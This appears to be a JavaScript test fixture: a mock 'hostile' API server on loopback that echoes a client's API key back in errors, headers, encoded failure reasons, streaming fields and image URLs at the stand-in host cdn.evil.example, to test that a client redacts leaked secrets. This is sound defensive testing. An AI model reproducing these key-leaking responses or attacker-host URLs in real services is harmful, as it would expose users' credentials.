// A hostile upstream on loopback: it speaks the providers' paths, and writes
// back whatever key it is sent, in every form it can. POST /__mode sets what it
// answers next:
// - a status ("400", "401", "403", "429", "500"): that error, the key echoed
//   whole and cut in the message, code, param, type, JSON keys and headers;
// - "job": accept a job, then report it failed with the key as its reason;
// - "leaky-failure": accept a job, then report it failed with the key base64-,
//   base64url-, hex- and percent-encoded, cut into 15-character pieces (in the
//   message and spread over other fields), and a line for the user to read;
// - "leaky-url": accept a job (or answer getimg.ai at once) with images whose
//   URLs carry the key percent-encoded, and one whose URL is not https;
// - "leaky-stream": answer OpenAI with partial-image and completed events (or a
//   JSON answer) carrying the key JSON-escaped (`\u0073...`) in their fields.
import { createServer } from "node:http";
import { after } from "./harness.mjs";
import { LURE, pieces } from "./leaks.mjs";

const JOB_ID = "0b7c2f4e-9d1a-4c3b-8e5f-6a7b8c9d0e1f";
/** A 1x1 PNG, as base64. */
export const TINY_PNG =
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

function echo(key) {
  const cuts = [key.slice(0, 24), key.slice(10, 110), key.slice(-40)];
  const keyed = Object.fromEntries([key, ...cuts].map((k) => [k, [`${k} is not valid`]]));
  return {
    message: `Incorrect API key provided: ${key}. ${cuts.join(" ")}`,
    body: {
      error: { message: `Incorrect API key provided: ${key}.`, code: key, param: cuts[1], type: cuts[0] },
      details: keyed,
    },
    headers: { "x-echo": key.replace(/[^\x21-\x7e]/g, ""), "www-authenticate": `Bearer realm="${cuts[0]}"` },
  };
}

const b64 = (text) => Buffer.from(text).toString("base64");
const percentAll = (text) => Array.from(Buffer.from(text), (b) => "%" + b.toString(16).padStart(2, "0")).join("");
const hex = (text) => Buffer.from(text).toString("hex");
const escaped = (text) => Array.from(text, (c) => "\\u" + c.charCodeAt(0).toString(16).padStart(4, "0")).join("");

/** A failure reason carrying the key in every encoded form, and a lure. */
function leakyReason(key) {
  return [
    `${LURE}.`,
    `token=${b64(key)}`,
    `alt=${b64(key).replace(/\+/g, "-").replace(/\//g, "_")}`,
    `hex=${hex(key)}`,
    `ref=${percentAll(key)}`,
    `parts: ${pieces(key).join(" ")}`,
  ].join(" ");
}

export async function startHostile() {
  let mode = "401";
  const server = createServer((req, res) => {
    let body = "";
    req.on("data", (c) => (body += c));
    req.on("end", () => {
      if (req.url === "/__mode") {
        mode = body;
        res.writeHead(204).end();
        return;
      }
      const key = String(req.headers["x-api-key"] ?? req.headers["api-key"] ?? String(req.headers.authorization ?? "").replace(/^Bearer /, ""));
      const e = echo(key);
      const json = (status, value, headers = {}) => {
        res.writeHead(status, { "content-type": "application/json", ...e.headers, ...headers });
        res.end(typeof value === "string" ? value : JSON.stringify(value));
      };
      const apiframe = req.url.startsWith("/v2/");
      // OpenAI's Images API, and the providers that speak it (Azure, OpenRouter).
      const openai = req.url.startsWith("/v1/") || req.url.startsWith("/openai/") || req.url.startsWith("/api/v1/images");
      const getimg = req.url.startsWith("/v2/images/generations");
      if (mode === "job" || mode === "leaky-failure" || mode === "leaky-url") {
        const url = (i) => (i === 2 ? `http://cdn.evil.example/${i}.png` : `https://cdn.evil.example/${i}.png?sig=${percentAll(key)}`);
        if (getimg) {
          const data = [0, 2].map((i) => ({ url: url(i), mime_type: "image/png" }));
          return json(200, { id: "gi-1", model: "gpt-image-2", status: "completed", data, usage: { billable_unit: "image", quantity: 1, unit_price: 0.06, total_cost: 0.06 } });
        }
        if (req.method === "POST") {
          return apiframe ? json(202, { jobId: JOB_ID, status: "QUEUED" }) : json(200, { jobId: JOB_ID, status: "pending" });
        }
        if (mode === "leaky-url") {
          return apiframe
            ? json(200, { id: JOB_ID, status: "COMPLETED", progress: 100, error: null, creditCost: 4, result: [url(0), url(2)] })
            : json(200, { jobId: JOB_ID, status: "succeeded", results: [{ imageUrl: url(0) }, { imageUrl: url(2) }] });
        }
        const reason = mode === "job" ? e.message : leakyReason(key);
        // The pieces spread over fields too: one per field, in order.
        const spread = Object.fromEntries(pieces(key).map((p, i) => [`note${i}`, p]));
        return apiframe
          ? json(200, { id: JOB_ID, status: "FAILED", progress: null, error: reason, creditCost: null, result: null, ...spread })
          : json(200, { jobId: JOB_ID, status: "failed", error: reason, ...spread });
      }
      if (mode === "leaky-stream" && openai) {
        const request = JSON.parse(body || "{}");
        const usage = { input_tokens: 10, output_tokens: 200, total_tokens: 210, input_tokens_details: { text_tokens: 10, image_tokens: 0 } };
        // JSON written by hand: JSON.stringify would not escape the key's characters.
        const fields = `"size":"${escaped(key)}","quality":"low","background":"opaque","output_format":"png","revised_prompt":"${escaped(key)}","created_at":1`;
        if (!request.stream) {
          return json(200, `{"created":1,"data":[{"b64_json":"${TINY_PNG}","revised_prompt":"${escaped(key)}"}],${fields},"usage":${JSON.stringify(usage)}}`);
        }
        res.writeHead(200, { "content-type": "text/event-stream" });
        const partials = Number(request.partial_images || 0);
        for (let i = 0; i < partials; i++) {
          res.write(`event: image_generation.partial_image\ndata: {"type":"image_generation.partial_image","b64_json":"${TINY_PNG}","partial_image_index":${i},${fields}}\n\n`);
        }
        for (let n = 0; n < Number(request.n || 1); n++) {
          res.write(`event: image_generation.completed\ndata: {"type":"image_generation.completed","b64_json":"${TINY_PNG}",${fields},"usage":${JSON.stringify(usage)}}\n\n`);
        }
        return res.end();
      }
      const status = Number(mode) || 500;
      const value = status === 400 || status === 500 ? e.body : { error: e.message, [key]: key };
      json(status, value, status === 429 ? { "retry-after": "1" } : {});
    });
  });
  await new Promise((ok) => server.listen(0, "127.0.0.1", ok));
  after(() => new Promise((ok) => server.close(ok)));
  return `http://127.0.0.1:${server.address().port}`;
}
